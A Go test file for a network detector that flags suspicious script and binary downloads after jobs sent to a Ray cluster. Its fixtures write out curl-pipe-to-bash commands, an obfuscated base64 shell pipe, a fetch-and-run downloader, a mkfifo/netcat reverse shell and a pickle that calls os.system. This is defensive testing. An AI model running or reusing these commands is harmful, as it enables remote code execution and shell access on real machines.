package payload

import (
	"net/netip"
	"strings"
	"testing"
	"time"

	"github.com/raytap/raytap/capture"
	"github.com/raytap/raytap/decoders/dns"
	"github.com/raytap/raytap/decoders/file"
	"github.com/raytap/raytap/decoders/http"
	"github.com/raytap/raytap/detectors"
	"github.com/raytap/raytap/detectors/detectortest"
	"github.com/raytap/raytap/interpreters/ray"
)

const (
	node     = "10.20.0.10"
	worker   = "10.20.0.11"
	ci       = "10.20.0.20"
	attacker = "203.0.113.66"
	web      = "198.51.100.77"
	browser  = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36"
)

type net struct {
	bus  *detectors.Bus
	said []*detectors.Finding
	now  capture.Time
	n    uint64
}

func newNet(cfg Config) *net {
	home := detectortest.Home()
	w := &net{now: 1_700_000_000e9}
	w.bus = detectors.NewBus(func(f *detectors.Finding) { w.said = append(w.said, f) })
	Spec().New(&detectors.Env{Home: home, Settings: map[string]any{"payload": &cfg}}, w.bus)
	return w
}

func (w *net) at() capture.At {
	w.n++
	w.now = w.now.Add(time.Second)
	return capture.At{Time: w.now, Packet: w.n}
}

func (w *net) job(src, dst, entrypoint string, out ray.Outcome) {
	w.bus.Publish(&ray.Call{At: w.at(), Flow: detectortest.Flow(src, dst, 8265), Job: true, Entrypoint: entrypoint, Outcome: out})
}

func (w *net) lookup(name, addr string) {
	w.bus.Publish(&dns.Transaction{At: w.at(), Query: name, Answered: true, Answers: []dns.Answer{{Name: name, Type: 1, Addr: netip.MustParseAddr(addr)}}})
}

// get fetches host/path; the content is told by its first byte.
func (w *net) get(src, dst string, port uint16, host, path, agent, contentType, body string, status int) {
	q := &http.Request{At: w.at(), Method: "GET", Target: path, Header: http.Header{{Name: "Host", Value: host}}}
	if agent != "" {
		q.Header = append(q.Header, http.Field{Name: "User-Agent", Value: agent})
	}
	at := w.at()
	var r file.Reader
	r.Open(file.NewCache(file.Options{HashLimit: 1 << 20}))
	r.Whole(at, []byte(body))
	p := &http.Response{At: at, Status: status, Header: http.Header{{Name: "Content-Type", Value: contentType}}}
	p.Body.Files, p.Body.Complete = r.Close(), true
	w.bus.Publish(&http.Transaction{At: q.At, Flow: detectortest.Flow(src, dst, port), Request: q, Response: p})
}

const (
	script = "#!/bin/bash\necho hello\n"
	elf    = "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x02\x00\x3e\x00"
	exe    = "MZ\x90\x00\x03\x00\x00\x00"
	page   = "<!DOCTYPE html><html>not found</html>"
)

func TestPayloads(t *testing.T) {
	for _, tt := range []struct {
		name     string
		do       func(w *net)
		severity string // "" for silence
		rule     string
		words    string
	}{
		{"named by a job from outside", func(w *net) {
			w.job(attacker, node, "curl -s http://files.example/x.sh | bash", ray.Executed)
			w.get(node, web, 80, "files.example", "/x.sh", "curl/7.88.1", "text/plain", script, 200)
		}, "high", ruleScript, "job that names the place"},
		{"named in capitals", func(w *net) {
			w.job(attacker, node, "curl -s HTTP://FILES.Example/x.sh | bash", ray.Executed)
			w.get(node, web, 80, "files.example", "/x.sh", "curl/7.88.1", "text/plain", script, 200)
		}, "high", ruleScript, "job that names the place"},
		{"a job that comes when the file has begun", func(w *net) {
			now := w.now
			w.now = now.Add(time.Minute)
			w.job(attacker, node, "curl -s http://vendor.example/setup.exe", ray.Executed)
			w.now = now
			w.get(node, web, 80, "vendor.example", "/setup.exe", browser, "application/x-msdownload", exe, 200)
		}, "", "", ""},
		{"named, and fetched by another node of the cluster", func(w *net) {
			w.job(attacker, node, "curl -s http://files.example/x.sh | bash", ray.Executed)
			w.get(worker, web, 80, "files.example", "/x.sh", browser, "text/plain", script, 200)
		}, "high", ruleScript, "had sent 10.20.0.10 a job"},
		{"after a job that hides where it goes", func(w *net) {
			w.job(attacker, node, "echo Y3VybA== | base64 -d | sh", ray.Executed)
			w.get(node, web, 80, web, "/x.sh", "curl/7.88.1", "text/plain", script, 200)
		}, "high", ruleScript, "had sent it a job"},
		{"the answer to the job was not seen", func(w *net) {
			w.job(attacker, node, "wget http://files.example/m", ray.Unknown)
			w.get(node, web, 80, "files.example", "/m", "Wget/1.21", "", elf, 200)
		}, "high", ruleExecutable, "a program"},
		{"a program under a false name from a bare address", func(w *net) {
			w.get(worker, web, 80, web, "/logo.png", "Wget/1.21", "image/png", elf, 200)
		}, "high", ruleExecutable, "under the name of a png file"},
		{"a program from a bare address at port 8000", func(w *net) {
			w.get(worker, web, 8000, web+":8000", "/a", "curl/8", "application/octet-stream", elf, 200)
		}, "high", ruleExecutable, "at port 8000"},
		{"a script from a paste site", func(w *net) {
			w.get(worker, web, 80, "pastebin.com", "/raw/AbC", "curl/8", "text/plain", script, 200)
		}, "medium", ruleScript, "paste site"},
		{"an installer by command line from a named server", func(w *net) {
			w.get(worker, web, 80, "get.tool.example", "/install.sh", "curl/8", "text/plain", script, 200)
		}, "low", ruleScript, "by curl"},
		{"a browser's download from a named server", func(w *net) {
			w.get(ci, web, 80, "vendor.example", "/setup.exe", browser, "application/x-msdownload", exe, 200)
		}, "", "", ""},
		{"a package archive", func(w *net) {
			w.get(worker, web, 80, "deb.debian.org", "/debian/x.udeb", "Debian APT-HTTP/1.3 (2.6.1)", "", elf, 200)
		}, "", "", ""},
		{"a package archive whose name was looked up", func(w *net) {
			w.lookup("deb.debian.org", web)
			w.job(attacker, node, "echo Y3VybA== | base64 -d | sh", ray.Executed)
			w.get(node, web, 80, "deb.debian.org", "/debian/x.udeb", "curl/8", "", elf, 200)
		}, "", "", ""},
		{"a package archive's name that was looked up with another address", func(w *net) {
			w.lookup("pypi.org", "198.51.100.1")
			w.job(attacker, node, "echo Y3VybA== | base64 -d | sh", ray.Executed)
			w.get(node, web, 80, "deb.debian.org", "/debian/x.udeb", "curl/8", "", elf, 200)
		}, "high", ruleExecutable, "had sent it a job"},
		{"apt, before its lookup was seen", func(w *net) {
			w.lookup("pypi.org", "198.51.100.1")
			w.get(worker, web, 80, "deb.debian.org", "/debian/x.udeb", "Debian APT-HTTP/1.3 (2.6.1)", "", elf, 200)
		}, "", "", ""},
		{"a package archive's name in the middle of another", func(w *net) {
			w.get(worker, web, 80, "deb.debian.org.files.example", "/x", "curl/8", "image/png", elf, 200)
		}, "medium", ruleExecutable, ""},
		{"an update that a job from outside asked for", func(w *net) {
			w.job(attacker, node, "curl http://deb.debian.org/x | sh", ray.Executed)
			w.get(node, web, 80, "deb.debian.org", "/x", "curl/8", "", script, 200)
		}, "high", ruleScript, ""},
		{"a job from inside names the place", func(w *net) {
			w.job(ci, node, "curl -s http://get.tool.example/install.sh | bash", ray.Executed)
			w.get(node, web, 80, "get.tool.example", "/install.sh", "curl/8", "text/plain", script, 200)
		}, "low", ruleScript, ""},
		{"a job that was refused", func(w *net) {
			w.job(attacker, node, "curl -s http://get.tool.example/install.sh | bash", ray.BlockedToken)
			w.get(node, web, 80, "get.tool.example", "/install.sh", "curl/8", "text/plain", script, 200)
		}, "low", ruleScript, ""},
		{"long after the job", func(w *net) {
			w.job(attacker, node, "curl -s http://get.tool.example/install.sh | bash", ray.Executed)
			w.now = w.now.Add(16 * time.Minute)
			w.get(node, web, 80, "get.tool.example", "/install.sh", "curl/8", "text/plain", script, 200)
		}, "low", ruleScript, ""},
		{"a server of packages, by address", func(w *net) {
			w.get(worker, web, 8081, web+":8081", "/repository/raw/kubectl", "Wget/1.21", "application/octet-stream", elf, 200)
		}, "low", ruleExecutable, "server of packages"},
		{"a program as plain text from a server of its own", func(w *net) {
			w.get(worker, web, 80, "files.vendor.example", "/tool", "Wget/1.21", "text/plain", elf, 200)
		}, "low", ruleExecutable, ""},
		{"an installer by address", func(w *net) {
			w.get(worker, web, 80, web, "/install.sh", "curl/8", "text/x-sh",
				"#!/bin/sh\nset -e\nos=$(uname -s)\ncurl -fsSL http://mirror.example.net/pkg.tgz | tar xz\necho done\n", 200)
		}, "low", ruleScript, "installer"},
		{"an archive that unpacks itself", func(w *net) {
			w.get(worker, web, 80, web, "/cuda.run", "Wget/1.21", "", "#!/bin/sh\n# This script was generated using Makeself 2.4.0\n", 200)
		}, "low", ruleScript, "Makeself"},
		{"settings at boot", func(w *net) {
			w.get(worker, web, 80, web, "/seed/user-data", "Cloud-Init/23.1", "", script, 200)
		}, "low", ruleScript, ""},
		{"an installer that fetches a program and runs it", func(w *net) {
			w.get(worker, web, 80, web, "/install.sh", "curl/8", "text/x-sh",
				"#!/bin/sh\nset -e\ncd /tmp\nwget http://198.51.100.77/x86 -O .x\nchmod 777 .x\n./.x\nrm -f .x\n", 200)
		}, "medium", ruleScript, ""},
		{"a server of packages, named by a job from outside", func(w *net) {
			w.job(attacker, node, "wget http://"+web+":8081/repository/raw/m", ray.Executed)
			w.get(node, web, 8081, web+":8081", "/repository/raw/m", "Wget/1.21", "", elf, 200)
		}, "high", ruleExecutable, ""},
		{"an installer of one line", func(w *net) {
			w.get(worker, web, 80, web, "/setup", "curl/8", "", "#!/bin/sh\nid\n", 200)
		}, "medium", ruleScript, ""},
		{"a page", func(w *net) {
			w.job(attacker, node, "curl -s http://files.example/x.sh | bash", ray.Executed)
			w.get(node, web, 80, "files.example", "/x.sh", "curl/8", "text/html", page, 200)
		}, "", "", ""},
		{"not found, with a script as its page", func(w *net) {
			w.get(node, web, 80, web, "/x.sh", "curl/8", "text/html", script, 404)
		}, "", "", ""},
		{"from a server inside", func(w *net) {
			w.get(worker, node, 8000, node+":8000", "/x.sh", "curl/8", "text/plain", script, 200)
		}, "", "", ""},
		{"an outsider fetches from home", func(w *net) {
			w.get(attacker, node, 8000, node+":8000", "/x.sh", "curl/8", "text/plain", script, 200)
		}, "", "", ""},
	} {
		t.Run(tt.name, func(t *testing.T) {
			w := newNet(Default())
			tt.do(w)
			if tt.severity == "" {
				if len(w.said) > 0 {
					t.Fatalf("said %s", w.said[0].Msg)
				}
				return
			}
			if len(w.said) != 1 {
				t.Fatalf("%d findings", len(w.said))
			}
			f := w.said[0]
			if f.Severity.String() != tt.severity || f.Rule != tt.rule || !strings.Contains(f.Msg, tt.words) || f.Src.String() == "" || f.Flow == nil {
				t.Errorf("%s %s: %s", f.Severity, f.Rule, f.Msg)
			}
		})
	}
}

func TestAllowListAndBound(t *testing.T) {
	cfg := Default()
	cfg.Allow = []string{"198.51.100.0/24"}
	w := newNet(cfg)
	w.get(worker, web, 8000, web, "/logo.png", "curl/8", "image/png", elf, 200)
	if len(w.said) > 0 {
		t.Errorf("said %s", w.said[0].Msg)
	}
	w = newNet(Default())
	for range 3 * maxJobs {
		w.job(attacker, node, "id", ray.Executed)
		w.now = w.now.Add(-time.Second)
	}
	w.job(attacker, node, "curl http://files.example/x", ray.Executed)
	w.get(node, web, 80, "files.example", "/x", browser, "", elf, 200)
	if len(w.said) != 1 || w.said[0].Severity != detectors.High {
		t.Error("the last job was forgotten")
	}
}

func TestPrintable(t *testing.T) {
	w := newNet(Default())
	w.get(worker, web, 80, web, "/\x1b[31mred", "curl/8", "", "#!/bin/sh\n\x1b]0;title\a", 200)
	if len(w.said) != 1 || strings.ContainsAny(w.said[0].Msg+w.said[0].Evidence[1].Value, "\x1b\a\n") {
		t.Errorf("%d findings, or not fit to print", len(w.said))
	}
}

// What is in an archive counts like what comes by itself, and who let the fetch happen may be another than a job.
func TestArchivesAndEntries(t *testing.T) {
	pickle := "\x80\x04\x95\x1d\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94."
	harmless := "\x80\x04\x95\x1d\x00\x00\x00\x00\x00\x00\x00\x8c\x05numpy\x94\x8c\x05dtype\x94\x93\x94"
	mar := "PK\x03\x04gz{\xd4\xe2\xc7y\x84\xaa\xb4"
	client := &detectors.Finding{Rule: "rayclient/external", Severity: detectors.Critical, Outcome: detectors.Succeeded, Src: netip.MustParseAddr(attacker), Dst: netip.MustParseAddr(node)}
	recon := &detectors.Finding{Rule: "rayclient/external", Severity: detectors.Medium, Outcome: detectors.Succeeded, Src: netip.MustParseAddr(attacker), Dst: netip.MustParseAddr(node)}
	names := func(w *net) {
		w.bus.Publish(&http.Transaction{At: w.at(), Flow: detectortest.Flow(attacker, node, 8081), Request: &http.Request{At: w.at(), Method: "POST", Target: "/models?url=http://" + web + ":8000/x.mar"}})
	}
	for _, x := range []struct {
		says   string
		before func(w *net)
		host   string
		path   string
		agent  string
		body   string
		rule   string // "": nothing
		sev    detectors.Severity
	}{
		{"a pickle that runs something", nil, web, "/m.pkl", "python-requests/2.31.0", pickle, ruleArchive, detectors.Medium},
		{"a pickle that does not", nil, web, "/m.pkl", "python-requests/2.31.0", harmless, "", 0},
		{"a script without its first line", nil, web, "/r", "curl/8.5.0", "cd /tmp; wget http://" + web + "/arm7; chmod 777 arm7; ./arm7\n", ruleScript, detectors.Medium},
		{"a script whose fetcher has no name", nil, web, "/r", "curl/8.5.0", "export D=/dev/shm\nC=cu; C=${C}rl\n$C -s http://" + web + "/b | $(echo ba)sh\n", ruleScript, detectors.Medium},
		{"a shell by a pipe", nil, web, "/r", "curl/8.5.0", "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc " + web + " 4444 >/tmp/f\n", ruleScript, detectors.Medium},
		{"notes that begin with a command", nil, web, "/r", "curl/8.5.0", "test results of run 17:\n3 passed, 1 failed\n", "", 0},
		{"harmless commands", nil, web, "/r", "curl/8.5.0", "export LANG=C\nmkdir -p /data\necho done\n", "", 0},
		{"a manual", nil, web, "/r", "curl/8.5.0", "To install, run curl http://x/y | sh\n", "", 0},
		{"after Ray Client", func(w *net) { f := *client; f.At = w.at(); w.bus.Publish(&f) }, "cdn.evil-host.top", "/x", browser, elf, ruleExecutable, detectors.Medium},
		{"after a look by Ray Client", func(w *net) { f := *recon; f.At = w.at(); w.bus.Publish(&f) }, "cdn.evil-host.top", "/x", browser, elf, "", 0},
		{"a model that a request from outside named", names, web, "/x.mar", "Java/17", mar, ruleArchive, detectors.Medium},
		{"an archive that nobody named", nil, web, "/x.zip", "Java/17", mar, "", 0},
	} {
		w := newNet(Default())
		if x.before != nil {
			x.before(w)
		}
		w.get(node, web, 80, x.host, x.path, x.agent, "application/octet-stream", x.body, 200)
		switch {
		case x.rule == "" && len(w.said) == 0:
		case len(w.said) != 1 || w.said[0].Rule != x.rule || w.said[0].Severity != x.sev:
			t.Errorf("%s: %+v", x.says, w.said)
		}
	}
}

// What package managers do all day is low, from a bare address, and nothing from a known place.
func TestPackageManagers(t *testing.T) {
	w := newNet(Default())
	w.get(node, web, 8000, web+":8000", "/v2/library/x/manifests/latest", "docker/24.0", "application/json", "{}", 200)
	if len(w.said) != 1 || w.said[0].Severity != detectors.Low || w.said[0].Rule != ruleArchive {
		t.Errorf("%+v", w.said)
	}
	w = newNet(Default())
	w.get(node, web, 443, "registry.example.com", "/v2/library/x/manifests/latest", "docker/24.0", "application/json", "{}", 200)
	if len(w.said) != 0 {
		t.Errorf("%+v", w.said)
	}
}
